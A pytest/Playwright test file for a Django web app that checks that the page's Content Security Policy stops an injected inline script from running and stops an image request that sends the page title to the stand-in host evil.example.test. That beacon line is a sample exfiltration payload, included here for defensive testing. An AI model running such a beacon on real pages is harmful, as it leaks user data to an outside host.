"""What the policy of a page is for: a script that somebody planted does not run in it."""

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Browser

from tests.browser import world
from tests.browser.phone import phone

pytestmark = pytest.mark.django_db(transaction=True)

PLANT = """() => new Promise((told) => {
  document.addEventListener("securitypolicyviolation", (one) => told(one.violatedDirective));
  const planted = document.createElement("script");
  planted.textContent = "window.planted = true";
  document.body.append(planted);
  setTimeout(() => told("it ran"), 2000);
})"""
SEND_AWAY = """() => new Promise((told) => {
  document.addEventListener("securitypolicyviolation", (one) => told(one.violatedDirective));
  new Image().src = "https://evil.example.test/?" + document.title;
  setTimeout(() => told("it left"), 2000);
})"""


def test_a_planted_script_does_not_run_and_sends_nothing_away(
    browser: Browser, base: str, tessa: User
) -> None:
    job = world.job(tessa, serial="KX1")
    with phone(browser, base, tessa) as staff, phone(browser, base, None) as stranger:
        for hand, path in ((staff, job.reassembly), (stranger, f"/t/{job.tag.code}")):
            page = hand.open(path)
            assert page.evaluate(PLANT).startswith("script-src")
            assert page.evaluate("window.planted") is None
            assert page.evaluate(SEND_AWAY) == "img-src"
            # What was stopped is told as asked for, and as a fault, by the browser itself.
            assert all("evil.example.test" in address for address in hand.strayed)
            hand.strayed.clear()
            hand.faults.clear()
